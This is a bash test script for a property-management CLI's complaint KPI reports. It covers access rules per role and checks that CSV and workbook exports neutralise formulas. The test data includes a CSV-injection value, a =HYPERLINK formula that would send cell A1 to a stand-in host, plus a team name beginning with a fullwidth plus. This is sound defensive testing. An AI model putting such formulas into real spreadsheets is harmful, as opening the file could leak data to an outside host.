#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
#     GUANJIA=build/client/admin/guanjia tests/cli/story_report.sh
#
# Figures of complaints, against a running server (serve.sh): counted from what was done, shown to who may see them, and
# written as CSV and as a workbook, in which a team and a person whose names would be formulas are texts.
set -euo pipefail
# shellcheck source=tests/cli/story_people.sh
. "$(dirname "$0")/story_people.sh"
team="＋一号楼小组"
leader_name='=HYPERLINK("http://example.invalid/?"&A1,"王建国")'

# counts FIGURE HITS TOTAL OPTIONS...: prints the manager's report as soon as it has that; clocks come a moment later.
counts() {
	local pattern="\"kpi\":\"$1\",\"hits\":\"?$2\"?,\"total\":\"?$3\"?" i
	shift 3
	for ((i = 0; i < 200; i++)); do
		out=$(manager --json report kpi "$@" | tr -d '\n ')
		if grep -qE "$pattern" <<<"$out"; then
			printf '%s\n' "$out"
			return
		fi
		sleep 0.05
	done
	printf '%s\n' "$out" >&2
	return 1
}

settle
person desk 古丽娜尔·买买提 customer-service --community "$community"
person leader "$leader_name" leader --team "$team" --community "$community"
person neighbour 赵敏 leader --team "$other_team" --community "$community"
person manager 周远 manager --community "$community"
person cleaner 李秀英 cleaner --team "$team" --community "$community"
cleaner() { cli --profile cleaner "$@"; }

says "nothing yet" manager report kpi
holds "... has headings" "$out" "FIGURE"

submit "a complaint" --kind complaint --place 1-1-101 --text '楼道堆放杂物' --contact-phone "$phone"
first=$number
says "accept" leader complaint accept "$number"
says "answer" leader complaint answer "$number" --answer '已清理'
says "send" leader complaint send "$number"
says "confirm" desk complaint confirm "$number" --rating 4
submit "another, of the other team" --kind enquiry --place 2-1 --text '物业费如何交'
says "accept" neighbour complaint accept "$number"

says "accepted in time" counts ACCEPTANCE 2 2
says "not followed up yet" counts FOLLOW_UP_COMPLAINTS 0 1
says "satisfied" counts SATISFACTION 1 1
says "follow up" desk complaint follow-up "$first" --score 3 --words '还行'
says "followed up" counts FOLLOW_UP_COMPLAINTS 1 1
says "the follow-up's word counts" counts SATISFACTION 0 1
says "fixed the first time" counts FIRST_FIX 1 1 --team "$team"
says "no repeat" counts REPEATS 0 1
says "closed" counts CLOSING 1 1 --by month
holds "... in this month" "$out" "\"month\":$(TZ=Asia/Shanghai date +%Y%m)"

says "for people" manager report kpi --by team,person
holds "... a line a figure" "$out" "accepted in time*100.00 %*1/1*≥ 98.00 %"
holds "... the team's, where answers are few" "$out" "the team's; own answers: 1"
says "in Chinese" manager --lang zh_CN report kpi --by team,person
holds "... too" "$out" "按时受理"

# ---- who sees what

says "a leader: their team" leader report kpi --by team
equals "... and no other" "$(grep -c "$other_team" <<<"$out")" 0
holds "... is said" "$err" "not of the whole community"
exits 66 "another team" leader report kpi --team "$other_team"
exits 77 "customer service: people" desk report kpi --by person
says "... teams" desk report kpi --by team
holds "... both" "$out" "$other_team"
exits 77 "a cleaner: their team" cleaner report kpi
says "... themselves" cleaner report kpi --mine
says "a leader: themselves" leader --json report kpi --mine
holds "... has figures" "$out" '"ACCEPTANCE"'
says "of each community" manager --json report kpi --by community
holds "... with its id" "$out" '"communities"'
exits 64 "a month that is none" manager report kpi --from 2026-13
exits 65 "too many months" manager report kpi --from 2020-01 --to 2022-06
exits 64 "two files at once" manager report kpi --csv "$work/a.csv" --xlsx "$work/a.xlsx"

# ---- files

says "as CSV" manager report kpi --by team,person --csv "$work/report.csv"
holds "... how many" "$err" "figures: $work/report.csv"
equals "... for its owner alone" "$(stat -c %a "$work/report.csv")" 600
says "on standard output" manager report kpi --by team,person --csv -
equals "... the same" "$(cat "$tap_out" | sha256sum)" "$(sha256sum <"$work/report.csv")"
says "as a workbook" manager report kpi --by team,person --xlsx "$work/report.xlsx"
exits 74 "into a folder that is not there" manager report kpi --xlsx "$work/nowhere/report.xlsx"
echo kept >"$work/kept.xlsx"
exits 77 "what is refused" desk report kpi --by person --xlsx "$work/kept.xlsx"
equals "... leaves what was there" "$(cat "$work/kept.xlsx")" kept
equals "... and nothing beside it" "$(find "$work" -name '*.xlsx.*' | wc -l)" 0
read_files() {
	python3 - "$work/report.csv" "$work/report.xlsx" "$team" "$leader_name" <<'PY'
import csv
import io
import re
import sys
import zipfile
from xml.etree import ElementTree

csv_path, xlsx_path, team, name = sys.argv[1:]
data = open(csv_path, "rb").read()
assert data.startswith(b"\xef\xbb\xbf"), "no byte order mark"
assert data.count(b"\r\n") == data.count(b"\n") == data.count(b"\r"), "line ends"
rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
assert len({len(row) for row in rows}) == 1, "as many cells in each row"
assert not [cell for row in rows for cell in row if re.match(r"\s*[=+\-@＝＋－＠\t\r\n]", cell)], "a formula"
cells = [cell for row in rows for cell in row]
assert "'" + team in cells and "'" + name in cells, "an apostrophe before what would be a formula"
figures = {(row[0], row[2]): row for row in rows[1:]}
accepted = figures["'" + team, "accepted in time"]
assert accepted[1] == "'" + name and accepted[3:7] == ["100.00%", "1", "1", "98.00%"], accepted

book = zipfile.ZipFile(xlsx_path)
assert book.testzip() is None
space = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
strings = ["".join(t.text or "" for t in item.iter("{%s}t" % space["s"]))
           for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("s:si", space)]
assert not sheet.findall(".//s:f", space), "a formula"
found = []
for cell in sheet.findall(".//s:c", space):
    value = cell.find("s:v", space)
    if cell.get("t") == "s":
        found.append(strings[int(value.text)])
    elif value is not None:
        float(value.text)
assert team in found and name in found, "texts as they are"
assert len(sheet.findall(".//s:row", space)) == len(rows), "as many rows as the CSV"
assert not [part for part in book.namelist() if "extern" in part.lower()], "links outwards"
PY
}
says "both are read by a program, and hold no formula" read_files

# ---- the record

sql() { bash -c "$GUANJIA_TEST_SQL \"\$1\"" - "$1"; }
says "who was given what is on record" sql "SELECT count(*) FILTER (WHERE step = 2) || ' ' ||
	count(*) FILTER (WHERE step = 3) || ' ' || bool_and(grant_id <> '00000000-0000-0000-0000-000000000000')
	FROM event WHERE topic = 10 AND account_id = (SELECT account_id FROM account WHERE name = '周远'
	ORDER BY created_at DESC LIMIT 1)"
equals "... files too" "$out" "2 2 true"
tap_end
